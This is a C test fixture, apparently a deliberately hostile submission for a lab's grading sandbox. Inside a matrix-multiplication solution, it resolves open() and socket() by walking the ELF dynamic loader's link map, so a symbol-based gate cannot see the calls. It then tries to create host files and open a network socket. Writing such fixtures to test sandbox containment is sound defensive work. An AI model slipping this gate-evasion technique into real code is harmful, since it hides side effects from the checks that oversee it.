/* hostile/01/libc_resolver.c (issue 24): reaches open and socket with no symbol the object gate can
 * see and no system call instruction: it walks from its own code to the program's ELF header, from
 * DT_DEBUG to the loader's list of libraries, and finds the functions by name in their dynamic
 * symbol tables, then calls them through pointers. The gate cannot refuse this; the sandbox must
 * contain it. It tries to create /var/tmp/tl-hostile-escape and /tmp/tl-hostile-escape-host, then
 * opens an inet socket. Expected: nothing created on the host (the sandbox's filesystem), the
 * socket kills the run (its seccomp filter) and the policy test fails naming the network socket;
 * less than the solution. The lab's solution otherwise. */
#include <elf.h>
#include <link.h>
#include <stdint.h>

#include "lab.h"

static int same(const char *a, const char *b)
{
    while (*a && *a == *b)
        ++a, ++b;
    return *a == *b;
}

static void *resolve(const char *name)
{
    uintptr_t base = (uintptr_t)&resolve & ~(uintptr_t)4095;   /* this program's ELF header */
    for (;;) {
        const unsigned char *b = (const unsigned char *)base;
        if (b[0] == 0x7f && b[1] == 'E' && b[2] == 'L' && b[3] == 'F')
            break;
        base -= 4096;
    }
    const ElfW(Ehdr) *eh = (const ElfW(Ehdr) *)base;
    const ElfW(Phdr) *ph = (const ElfW(Phdr) *)(base + eh->e_phoff);
    const ElfW(Dyn) *dyn = 0;
    for (int i = 0; i < eh->e_phnum; ++i)
        if (ph[i].p_type == PT_DYNAMIC)
            dyn = (const ElfW(Dyn) *)(base + ph[i].p_vaddr);
    struct r_debug *dbg = 0;
    for (const ElfW(Dyn) *d = dyn; d && d->d_tag != DT_NULL; ++d)
        if (d->d_tag == DT_DEBUG)
            dbg = (struct r_debug *)d->d_un.d_ptr;
    for (struct link_map *m = dbg ? dbg->r_map : 0; m; m = m->l_next) {
        uintptr_t sym = 0, str = 0;
        for (const ElfW(Dyn) *d = m->l_ld; d && d->d_tag != DT_NULL; ++d) {
            if (d->d_tag == DT_SYMTAB)
                sym = d->d_un.d_ptr;
            if (d->d_tag == DT_STRTAB)
                str = d->d_un.d_ptr;
        }
        if (!sym || !str || str <= sym)
            continue;
        if (sym < m->l_addr) {   /* not relocated in place (the vDSO) */
            sym += m->l_addr;
            str += m->l_addr;
        }
        const ElfW(Sym) *s = (const ElfW(Sym) *)sym;
        for (size_t i = 0, n = (str - sym) / sizeof *s; i < n && i < 50000; ++i)
            if (s[i].st_value && ELF64_ST_TYPE(s[i].st_info) == STT_FUNC && same((const char *)str + s[i].st_name, name))
                return (void *)(m->l_addr + s[i].st_value);
    }
    return 0;
}

static void attack(void)
{
    static int done;
    if (done++)
        return;
    int (*op)(const char *, int, ...) = (int (*)(const char *, int, ...))resolve("open");
    int (*sock)(int, int, int) = (int (*)(int, int, int))resolve("socket");
    if (op) {
        op("/var/tmp/tl-hostile-escape", 01 | 0100, 0644);           /* O_WRONLY | O_CREAT */
        op("/tmp/tl-hostile-escape-host", 01 | 0100, 0644);
    }
    if (sock)
        sock(2, 1, 0);                                                 /* AF_INET, SOCK_STREAM */
}
#include "lab.h"

void GMM_CPU(const float *M, const float *N, float *P, int Width)
{
    attack();
    for (int i = 0; i < Width; ++i)
        for (int j = 0; j < Width; ++j) {
            float sum = 0;
            for (int k = 0; k < Width; ++k)
                sum += M[i * Width + k] * N[k * Width + j];
            P[i * Width + j] = sum;
        }
}

void GMM_CPU_ikj(const float *M, const float *N, float *P, int Width)
{
    for (int i = 0; i < Width; ++i) {
        float *Prow = P + (long)i * Width;
        for (int j = 0; j < Width; ++j)
            Prow[j] = 0;
        for (int k = 0; k < Width; ++k) {
            float a = M[i * Width + k];
            const float *Nrow = N + (long)k * Width;
            for (int j = 0; j < Width; ++j)
                Prow[j] += a * Nrow[j];
        }
    }
}

static int min_int(int a, int b)
{
    return a < b ? a : b;
}

void GMM_CPU_blocked(const float *M, const float *N, float *P, int Width, int Block)
{
    for (int i = 0; i < Width * Width; ++i)
        P[i] = 0;
    /* Blocks of rows of P (ii), of the dot product (kk), of columns of P (jj); inside a block
     * the i-k-j order of GMM_CPU_ikj. min() keeps the last, partial block of each direction. */
    for (int ii = 0; ii < Width; ii += Block)
        for (int kk = 0; kk < Width; kk += Block)
            for (int jj = 0; jj < Width; jj += Block) {
                int iend = min_int(ii + Block, Width);
                int kend = min_int(kk + Block, Width);
                int jend = min_int(jj + Block, Width);
                for (int i = ii; i < iend; ++i)
                    for (int k = kk; k < kend; ++k) {
                        float a = M[i * Width + k];
                        for (int j = jj; j < jend; ++j)
                            P[i * Width + j] += a * N[k * Width + j];
                    }
            }
}
